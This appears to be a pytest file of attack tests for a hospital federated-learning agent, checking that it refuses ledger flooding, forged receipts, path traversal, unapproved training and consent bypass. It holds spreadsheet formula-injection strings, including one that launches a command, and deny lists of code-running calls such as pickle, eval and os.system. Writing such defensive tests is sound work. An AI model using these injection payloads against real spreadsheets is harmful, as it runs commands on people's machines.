    left_out = 2 * evidence.MAX_FILES - (evidence.MOST_OF_ONE - 1)  # the first lie was another
    assert error.message.endswith(f"the first ones about this upload are, and {left_out} more were counted")
    ledger.close()
    kept = list((world.state.ledger / "evidence").glob("*.json"))
    assert len(kept) == evidence.MOST_OF_ONE
    assert sum(path.stat().st_size for path in kept) < evidence.MOST_OF_ONE * 2 * evidence.MAX_PAYLOAD
    rows = evidence.read(world.state.ledger)
    assert "this receipt does not follow the one before it: one is missing" in rows[0].why
    assert {row.left_out for row in rows} == {left_out}
    said = command("site-agent", "status", "--state", world.state.root)
    assert f"the ledger is as it was; {left_out} more about this upload were counted and not kept" in said


@pytest.mark.attack(promise="P2", refused_by="site_agent/gateway/exit/evidence.py")
def test_hostile_receipt__room_for_the_next_upload(tmp_path: Path) -> None:
    """64 lies about one upload used up the folder, and nothing was kept of the next upload's. Each has room for four,
    and its first lie is kept whatever else is."""
    kept = evidence.Evidence(tmp_path)
    key = ed25519.Ed25519PrivateKey.generate()
    uploads = [f"{number:032x}" for number in range(evidence.MAX_FILES // evidence.MOST_OF_ONE + 2)]
    for upload_id in uploads:
        about = UploadEntry(
            upload_id=upload_id, study=STUDY, revision=1, round=1, attempt=1, manifest_sha256="ab" * 32,
            payload_bytes=0, tensors=(), metrics=(),
        )  # fmt: skip
        for number in range(9):
            kept.keep(about, signed(receipts.RECEIPT_TYPE, b"%d" % number * 5_000, key), f"lie {number}")
    rows = evidence.read(tmp_path)
    firsts = {row.upload_id: row for row in rows if row.why == "lie 0"}
    assert set(firsts) == set(uploads) == evidence.Evidence(tmp_path).uploads
    assert len(rows) == evidence.MAX_FILES + 2
    assert [len(row.payload_base64) > 0 for row in firsts.values()] == [True] * (len(uploads) - 2) + [False] * 2
    assert [firsts[one].left_out for one in uploads] == [5] * (len(uploads) - 2) + [8] * 2


@pytest.mark.attack(promise="P11", refused_by="site_agent/gateway/enrolment/renewal.py")
@pytest.mark.parametrize("refuses", [False, True])
def test_renewals_without_end(site: SiteWorld, refuses: bool, monkeypatch: pytest.MonkeyPatch) -> None:
    """Each new certificate is past the half of its life when it comes, or none comes: the site made a key, asked and
    wrote into its ledger as fast as it could. There is a minute between any two tries."""
    site.join()
    coordinator = site.coordinator
    issue = coordinator.authority.issue
    stale = datetime.datetime.now(datetime.UTC) - datetime.timedelta(days=6)
    monkeypatch.setattr(coordinator.authority, "issue", lambda *given, **more: issue(*given, **more, begins=stale))
    own = Identity(site.state.identity)
    own.begin_renewal()
    leaf = coordinator.authority.issue(own.next_key().public_key(), [uri(f"spiffe://test/site/{coordinator.site}")])
    own.adopt(leaf)
    if refuses:
        monkeypatch.setattr(coordinator, "Renew", lambda _, context: rpc.abort(context, TryAgain("", code="TOO_BUSY")))
        coordinator.stop()
        coordinator.start()
    session = open_session(site.state.site(), own)
    ledger = Ledger(site.state.ledger, own.ledger_key())
    waits = Waits(most=4)
    try:
        with pytest.raises(Interrupted):
            renewal.keep_renewed(own, site.state.site(), session, ledger, waits, lambda: None)
    finally:
        session.close()
        ledger.close()
    assert waits.asked[0] == 0
    assert all(seconds >= renewal.LEAST_S for seconds in waits.asked[1:])
    assert len(coordinator.renewals) == (0 if refuses else 4)


def written(site: SiteWorld) -> tuple[int, int]:
    """Bytes of the ledger's lines and of its signed heads."""
    lines, heads = (site.state.ledger / name for name in ("000001.jsonl", "heads.jsonl"))
    return lines.stat().st_size, heads.stat().st_size


class Counted:
    """Counts the assignments that an agent has done."""

    def __init__(self, agent: agents.Agent) -> None:
        self.done = 0
        done = agent._inbox.done

        def counted() -> None:
            done()
            self.done += 1

        agent._inbox.done = counted  # type: ignore[method-assign]


def left_out(site: SiteWorld, kind: str) -> int:
    """How many lines of a kind the ledger says have been left out."""
    return sum(line.get("left_out", 0) for line in site.lines(kind))


@pytest.mark.attack(promise="P6", refused_by="proto/wardround/records/ledger/decided.py")
def test_rejected_numbers_guessed_from_a_lines_hash(site: SiteWorld) -> None:
    """Numbers without tensors wait for a person, and are rejected. The coordinator is shown the hash of each line, and
    knows all of that line but the numbers, of four digits each: it tried them until the hash was right."""
    site.join()
    site.offer()
    site.start()
    site.draft(('updates = "none"', 'updates = "every"'))
    site.approve()
    site.coordinator.wait_declared("READY")
    site.coordinator.assign(STUDY, 4, kind="validate")
    site.coordinator.wait_declared("HELD")
    update = site.command("waiting", study=STUDY, round=4)["update"]
    site.command("decide", study=STUDY, round=4, decision="rejected", update=update, by=PERSON)
    lines = [line for line in audit.lines(site.state.ledger) if line.type in ("held", "rejected")]
    shown = {line_hash(line.encoded()) for line in lines}
    journal = site.state.journal(STUDY)
    guessed = egress.update_digest(journal, "spiffe://test/coordinator")  # with the right numbers, and no tensors
    assert guessed == update
    for line in lines:  # of a rejection its person's account is guessed too
        assert isinstance(line.entry, HoldEntry)
        known = replace(line, entry=replace(line.entry, update=guessed, salt=None))
        assert line_hash(known.encoded()) not in shown
    assert len({line.document()["salt"] for line in lines}) == len(lines) == 2
    site.stop()
    assert ledgers.both(site.state.ledger)[0] == audit.CONSISTENT


@pytest.mark.attack(promise="P2+", refused_by="site_agent/gateway/exit/ledger_state.py")
def test_quotas_begun_anew(site: SiteWorld) -> None:
    """The day's quota is spent. The coordinator takes the ledger no longer, so that people begin a new one, as the hint
    says: each new ledger let as much leave again."""
    site.join()
    site.offer()
    site.start()
    site.draft(("numbers_per_day = ", "numbers_per_day = 4 # "))  # two metrics and two counts
    site.approve()
    site.coordinator.wait_declared("READY")
    site.coordinator.assign(STUDY, 1)
    site.coordinator.wait_receipts(1)
    site.roll_over()
    site.coordinator.wait_connected()
    site.coordinator.assign(STUDY, 2)
    site.coordinator.wait_declared("DECLINED", "DECLINED_POLICY")
    (blocked,) = site.lines("blocked")
    assert blocked["rule"] == "quotas.numbers_per_day = 4"
    assert not site.lines("upload")  # in the new ledger


@pytest.mark.attack(promise="P2", refused_by="proto/wardround/local/rate_limit.py")
@pytest.mark.parametrize("blocked", [False, True])
def test_lines_without_end(site: SiteWorld, blocked: bool, caplog: pytest.LogCaptureFixture) -> None:
    """A round that is declined is asked again and again: each time the ledger and the log grew by a line, without end.
    Some are left out and counted; every byte that was said stands in the ledger all the same, and what leaves, too."""
    caplog.set_level(logging.INFO, "site_agent")
    site.ready()
    if blocked:
        policy = site.state.policy.read_text()
        site.draft(("numbers_per_round = ", "numbers_per_round = 0 # "))
    asked = 3 * rate_limit.BURST
    for number in range(asked):
        site.coordinator.assign(STUDY, 1 if blocked else 4711 + number, attempt=1 + number % 2)
        told = number + 2  # it was ready before
        site.coordinator.wait_for(lambda told=told: len(site.coordinator.declared) >= told, "declined again")
    grown = written(site)
    lines = site.lines()
    assert len(lines) < 4 * rate_limit.BURST
    logged = [one.getMessage() for one in caplog.records if one.levelname == "ERROR"]
    assert rate_limit.BURST <= len(logged) < 2 * rate_limit.BURST
    if blocked:
        site.state.policy.write_text(policy)
    site.coordinator.assign(STUDY, 1)
    (taken,) = site.coordinator.wait_receipts(1)
    assert site.trainer is not None
    site.trainer.wait_asked("commit")
    site.stop()
    assert len(site.lines("upload")) == 1
    assert written(site) < (2 * grown[0], 2 * grown[1])
    assert len(site.lines("declare")) + left_out(site, "declare") == asked + 1
    if blocked:
        assert len(site.lines("blocked")) + left_out(site, "blocked") == asked
    counted = [row for line in site.lines("control") for row in line["methods"] if row["method"] == "Declare"]
    assert sum(row["count"] for row in counted) == asked + 1
    assert site.verdict().consistent
    assert site.verdict().bytes == len(taken.payload)
    said = command("site-agent", "audit", "show", "--state", site.state.root)
    assert f"; {left_out(site, 'declare')} more before it have no line" in said


@pytest.mark.attack(promise="P2", refused_by="proto/wardround/local/rate_limit.py")
def test_lines_without_end__connections(
    site: SiteWorld, caplog: pytest.LogCaptureFixture, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Each connection is ended at once: it has a line for its beginning, one for its end, what is said, two signatures.
    A connection in which payload left has its line however many there were."""
    monkeypatch.setattr(agents, "backoff", lambda: itertools.repeat(0.001))
    caplog.set_level(logging.INFO, "site_agent")
    site.ready()
    coordinator = site.coordinator
    ended = 3 * rate_limit.BURST
    coordinator.wait_connected()
    for _ in range(ended):
        before = set(map(id, streams := list(coordinator._streams)))
        for stream in streams:
            stream.put(pb.Event(goodbye=pb.Goodbye()))
        coordinator.wait_for(lambda old=before: {id(one) for one in coordinator._streams} - old, "watched again")
    assert len(site.lines("session")) <= 2 * rate_limit.BURST + 2
    assert len([one for one in caplog.records if "connected to the coordinator" in one.getMessage()]) < ended
    coordinator.assign(STUDY, 1)
    (taken,) = coordinator.wait_receipts(1)
    assert site.trainer is not None
    site.trainer.wait_asked("commit")
    site.stop()
    opened = [line for line in site.lines("session") if line["event"] == "opened"]
    assert len(opened) + left_out(site, "session") + 1 == ended + 1  # the last line is of one that had none
    assert sum(line.get("bytes_up", 0) for line in site.lines("session")) == len(taken.payload)
    counted = [row for line in site.lines("control") for row in line["methods"] if row["method"] == "Declare"]
    assert sum(row["count"] for row in counted) == ended + 1
    assert site.verdict().consistent
    found = reconcile.reconcile(site.state.ledger, reconcile.Count(0))
    assert found.connections == ended + 1
    assert not found.open_session


@pytest.mark.attack(promise="P11", refused_by="site_agent/gateway/connection/client.py")
def test_lines_without_end__of_what_cannot_be_read(site: SiteWorld, caplog: pytest.LogCaptureFixture) -> None:
    """Two bytes are an offer of no form, and a line of a hundred in the log: a page of studies has a million of them,
    and a watch has no end. They fill the disk that the ledger lies on."""
    site.ready()
    many = 10 * rate_limit.BURST
    site.coordinator.studies = lambda request: pb.StudiesReply(
        studies=[pb.StudyOffer() for _ in range(many)], coordinator_version=__version__
    )
    assert site.agent is not None
    site.agent.refresh()
    for _ in range(many):
        site.coordinator.tell(pb.Event(assignment=pb.Assignment()))
    site.coordinator.assign(STUDY, 1)
    site.coordinator.wait_receipts(1)
    lines = [record for record in caplog.records if "was left out" in record.getMessage()]
    assert 0 < len(lines) < 2 * rate_limit.BURST


@pytest.mark.attack(promise="P11", refused_by="site_agent/gateway/round.py")
def test_lines_without_end__decided_already(site: SiteWorld, caplog: pytest.LogCaptureFixture) -> None:
    """A round whose update was accepted is asked again and again, in the same attempt: a line each time."""
    caplog.set_level(logging.INFO, "site_agent")
    site.ready()
    site.coordinator.assign(STUDY, 1)
    site.coordinator.wait_receipts(1)
    assert site.trainer is not None
    site.trainer.wait_asked("commit")
    assert site.agent is not None
    rounds = Counted(site.agent)
    for asked in range(1, 3 * rate_limit.BURST):
        site.coordinator.assign(STUDY, 1)
        wait_until(lambda asked=asked: rounds.done >= asked, "it was looked at", 20)
    lines = [record for record in caplog.records if "is decided already" in record.getMessage()]
    assert 0 < len(lines) < 2 * rate_limit.BURST


@pytest.mark.attack(promise="P11", refused_by="site_agent/gateway/inbox.py")
def test_assignments_without_end(site: SiteWorld) -> None:
    """While a round is trained, which takes hours, the coordinator asks for rounds of studies that nobody approved, and
    says that others are over, each under another name and with a million numbers: all of them waited in memory."""
    site.ready()
    assert site.trainer is not None
    site.trainer.hold.set()
    site.coordinator.assign(STUDY, 1)
    site.trainer.wait_asked("train")
    stop = pb.Stop(contributions=[pb.Contribution(site="oslo", rounds=[1] * 1000)])
    for number in range(4 * inbox.MOST_STRANGE):
        about = {"study": f"study-{number}", "digest": bytes(32)}
        site.coordinator.tell(pb.Event(assignment=pb.Assignment(**about, stop=stop)))
        site.coordinator.tell(pb.Event(assignment=pb.Assignment(**about, round=1, attempt=1, train=pb.Train())))
    site.coordinator.stop_study(STUDY, "ROUND_FAILED")
    assert site.agent is not None
    waiting = site.agent._inbox._waiting
    site.trainer.aborted.wait(20)
    assert site.trainer.aborted.is_set()
    assert all(assignment.study == STUDY or not assignment.contributions for assignment in list(waiting.values()))
    assert len(waiting) <= inbox.MOST_STRANGE + 1


RUNS_WHAT_IT_READS = frozenset(
    {"pickle", "cPickle", "dill", "cloudpickle", "joblib", "marshal", "shelve", "jsonpickle", "yaml", "runpy", "code"}
)

CALLS_THAT_RUN_WHAT_THEY_READ = frozenset(
    {"eval", "exec", "compile", "__import__", "torch.load", "torch.hub.load", "torch.jit.load", "os.system", "os.popen"}
)


@pytest.mark.attack(promise="P3", refused_by="proto/wardround/records/offer.py")
def test_code_in_a_message() -> None:
    """Nothing runs what it reads: no pickle, eval, array of objects; torch.load in `fl-lab convert`, weights only."""
    bad = [(file, module) for file, module in imports_in_our_code() if module.split(".")[0] in RUNS_WHAT_IT_READS]
    assert not bad
    for file, name, call in calls_in_our_code():
        if (file, name) == ("fl_algorithms/lab/checkpoint.py", "torch.load"):
            assert ast.unparse(call) == "torch.load(path, map_location='cpu', weights_only=True)"
            continue
        assert name not in CALLS_THAT_RUN_WHAT_THEY_READ, f"{file}:{call.lineno} calls {name}"
        for keyword in call.keywords:
            value = getattr(keyword.value, "value", None)
            odd = (keyword.arg, value) in (("allow_pickle", True), ("shell", True), ("verify", False))
            assert not odd, f"{file}:{call.lineno}"
            assert keyword.arg != "weights_only", f"{file}:{call.lineno}"
        if name == "np.load":
            assert any(keyword.arg == "allow_pickle" for keyword in call.keywords), f"{file}:{call.lineno}"


@pytest.mark.attack(promise="P3", refused_by="site_agent/state/directory.py")
@pytest.mark.parametrize("name", NAMES_OUT, ids=ascii)
def test_path_in_a_studys_name(tmp_path: Path, name: str) -> None:
    """A study's name becomes a file's at the site: in offers, consents, journals, private state and staging."""
    with pytest.raises(BadData):
        offer_from(pb.StudyOffer(study=name, revision=1), "alpha")
    state = SiteState(tmp_path)
    for look in (state.offer, state.consent, state.journal):
        with pytest.raises(UsageProblem):
            look(name)
    with pytest.raises(UsageProblem):
        study_folder(tmp_path, name)
    with pytest.raises(WardroundError):
        staged(tmp_path, name)
    with pytest.raises(BadData):
        Staging(tmp_path).take(name, tmp_path / "copy", 100)
    assert not list(tmp_path.iterdir())


FORMULAS = ["a\r=1", "a\n=1", '=cmd|"/c calc"!A1', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1+1"]


@pytest.mark.attack(promise="P3", refused_by="proto/wardround/local/outputs.py")
@pytest.mark.parametrize("text", FORMULAS, ids=ascii)
def test_formula_in_a_cell(tmp_path: Path, text: str) -> None:
    """What a study holds runs as a formula where a hospital opens its ledger, or its predictions, in a spreadsheet."""
    by = LedgerPerson(name=text, uid=1)
    facts: dict[str, Any] = {"study": text, "revision": 1, "round": 1, "attempt": 1, "upload_id": text}
    answer = {
        "receipt_id": text, "federation": text, "site": text, "decision": "refused", "code": "NOT_FINITE",
        "tensor": text, "time": text, "ledger": None, "previous": "00" * 32, "ledger_key": "",
        "manifest_sha256": text, "payload_bytes": 0, **facts, "upload_id": "ab" * 16,
    }  # fmt: skip
    signed_text = ledger_entries.SignedText(
        payload_type=text, payload=canonical.dumps(answer).decode(), keyid=text, signature=text
    )
    entries: list[Any] = [
        ledger_entries.HeldEntry(study=text, by=by),
        ledger_entries.UploadEntry(**facts, manifest_sha256=text, payload_bytes=0, tensors=(), metrics=()),
        ledger_entries.DeclareEntry(study=text, standing=text, code=text),
        ledger_entries.UnknownEntry(unknown_type=text),
    ]
    if text.isprintable():  # else it is no receipt
        entries.append(ledger_entries.ReceiptEntry(upload_id=text, envelope=signed_text))
    lines = [Line(0, text, text, entry) for entry in entries]
    (first, *rest) = csv.reader(io.StringIO(export.as_csv(lines), newline=""))
    assert tuple(first) == export.COLUMNS
    shown = escaped(text) if text.startswith("a") else "'" + escaped(text)
    for entry, cells in zip(entries, rest, strict=True):
        assert shown in cells, entry
        assert not any(cell.startswith(outputs.FORMULA) for cell in cells)

    said = Predictions((text, f"probability_{text}"), [(text, 0.9), ("-1", 0.2)])
    task, out = SimpleNamespace(predictions=lambda logits, fit: said), tmp_path / "predictions.csv"
    restored = SimpleNamespace(logits=lambda x, counted: x)
    predictions.write(cast(Any, restored), cast(Any, task), torch.zeros(2, 1), [text, 2], out, {})
    head, *rows = csv.reader(io.StringIO(out.read_text(), newline=""))
    assert [row[:2] for row in rows] == [[shown] * 2, ["2", "-1"]]  # a number runs nothing
    assert not any(cell.startswith(outputs.FORMULA) for cell in head)


@pytest.mark.attack(promise="P3", refused_by="fl_algorithms/portable/predict.py")
@pytest.mark.parametrize("text", FORMULAS, ids=ascii)
def test_formula_in_a_cell__of_an_exported_model(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, text: str) -> None:
    """The same by the program beside an exported model, which knows nothing of Wardround: a class is a formula."""
    from fl_algorithms.portable import predict

    said = (["predicted", text], [[text, 0.9], ["-1", 0.2]], [0, 1])
    monkeypatch.setattr(predict, "Predictor", lambda folder: SimpleNamespace(predict=lambda rows: said))
    (tmp_path / "new.csv").write_text("age\n1\n2\n")
    predict.main(str(tmp_path / "new.csv"), str(tmp_path / "out.csv"))
    with (tmp_path / "out.csv").open(newline="", encoding="utf-8") as file:
        rows = list(csv.reader(file))
    assert [len(row) for row in rows] == [3, 3, 3]
    assert rows[2] == ["3", "-1", "0.200000"]
    assert not any(cell.startswith(outputs.FORMULA) for cell in (rows[0][2], rows[1][1]))
    assert all(cell.isprintable() for row in rows for cell in row)


@pytest.mark.attack(promise="P6+", refused_by="site_agent/gateway/round.py")
def test_finished_under_settings_that_nobody_approved(site: SiteWorld) -> None:
    """Another revision is offered, nobody approves it, and the approved study is said to be finished: the trainer fine-
    tuned on patients for the 10,000 epochs of the offer."""
    site.ready()
    site.coordinator.assign(STUDY, 1)
    site.coordinator.wait_receipts(1)
    end = pb.Event()
    end.assignment.study, end.assignment.revision = STUDY, 1
    end.assignment.digest = bytes.fromhex(site.digest)
    end.assignment.best.round, end.assignment.stop.reason = 0, pb.Stop.Reason.FINISHED
    model = site.another_model(seed=0)
    with TensorFile(model) as file:
        end.assignment.best.digest = bytes.fromhex(file.manifest().digest())
    swap(site.coordinator, model)
    site.coordinator.tell(end)
    assert site.trainer is not None
    (asked,) = site.trainer.wait_asked("finish")
    assert asked["study"]["training"]["local_epochs"] is None
    assert (asked["study_digest"], asked["revision"]) == (site.digest, 1)


@pytest.mark.attack(promise="P6+", refused_by="site_agent/gateway/round.py")
def test_trained_under_a_revision_that_nobody_approved(site: SiteWorld) -> None:
    """The same study is offered as revision 77 and asked for as revision 1: the trainer kept the private state of each
    round where no commit found it."""
    site.ready()
    approved = site.coordinator.offers[STUDY]
    again = pb.StudyOffer()
    again.CopyFrom(approved)
    again.revision = 77
    site.coordinator.tell(pb.Event(offer=again))
    wait_until(lambda: site.state.offer(STUDY).revision == 77, "revision 77 is kept", 20)
    site.coordinator.assign(STUDY, 1)
    assert site.trainer is not None
    (trained,) = site.trainer.wait_asked("train")
    (committed,) = site.trainer.wait_asked("commit")
    assert trained["revision"] == committed["revision"] == 1


@pytest.mark.attack(promise="P6", refused_by="site_agent/gateway/round.py")
@pytest.mark.parametrize("withdrawn", [True, False], ids=["withdrawn between", "approved over it"])
@pytest.mark.parametrize("phase", ["training", "held", "uploading"])
def test_trained_on_patients_who_are_not_in_the_consent(site: SiteWorld, phase: str, withdrawn: bool) -> None:
    """A round is under way when a patient objects: the hospital approves the same study for the table without her. The
    update made from the old table was there still, and left under the new consent."""
    site.ready()
    trainer = site.trainer
    assert trainer is not None
    if phase == "training":
        trainer.hold.set()
    elif phase == "held":
        site.state.policy.write_text(site.state.policy.read_text().replace('updates = "none"', 'updates = "every"'))
    else:
        site.coordinator.hold_uploads.clear()
    site.coordinator.assign(STUDY, 1)
    if phase == "training":
        trainer.wait_asked("train")
    elif phase == "held":
        site.coordinator.wait_declared("HELD")
    else:
        site.coordinator.wait_whole()
    if withdrawn:
        site.command("withdraw", study=STUDY, by=PERSON)
    trainer.digest = "cd" * 32
    site.draft()
    site.approve()
    trainer.hold.clear()
    site.coordinator.hold_uploads.set()
    site.coordinator.assign(STUDY, 1, attempt=2)
    asked = trainer.wait_asked("train", 2)
    site.coordinator.wait_for(lambda: any(one.opening.attempt == 2 for one in site.coordinator.decided()), "attempt 2")
    assert {request["data"]["digest"] for request in asked[1:]} == {"cd" * 32}
    new_consent = site.lines("consent")[-1]["seq"]
    assert all(line["seq"] < new_consent for line in site.lines("resend"))
    assert all(line["seq"] > new_consent for line in site.lines("upload")[phase == "uploading" :])


@pytest.mark.attack(promise="P2", refused_by="site_agent/gateway/agent.py")
def test_said_outside_a_connection(site: SiteWorld) -> None:
    """A coordinator that refuses to be watched is asked again and again; what was said in those calls was in memory
    alone, and in no ledger once the agent had stopped."""
    site.join()
    site.coordinator.version = "9.9.9"  # after the call, so that no connection begins
    site.start()
    site.coordinator.wait_for(lambda: len(site.coordinator.heard) >= 3, "the studies are asked for")
    site.stop()
    counted = [row for line in site.lines("control") for row in line["methods"] if row["method"] == "Studies"]
    assert sum(row["messages"] for row in counted) >= 1


def asked_again(site: SiteWorld, base: int) -> bool:
    """Ask for round 1 with this base; whether the trainer was asked for as many rounds as there were bases."""
    assert site.trainer is not None
    site.coordinator.assign(STUDY, 1, base=base)
    return len(site.trainer.commands("train")) > base


@pytest.mark.attack(promise="P6+", refused_by="site_agent/gateway/downloads.py")
def test_models_without_end(site: SiteWorld) -> None:
    """The same round is asked for with the same model under another number each time, and the training fails: each
    number left a model behind, until the hospital's disk was full."""
    site.ready()
    trainer, path = site.trainer, site.coordinator.models[0]
    assert trainer is not None
    trainer.failure = BadData("no", code="DECLINED_TRAINING_FAILED")
    for number in range(4):
        site.coordinator.models[number] = path
        wait_until(lambda base=number: asked_again(site, base), "the trainer is asked once more", 20)
    left = [file.name for folder in (site.state.incoming, site.state.staging) for file in folder.glob("base-*")]
    assert len(left) <= 1, left
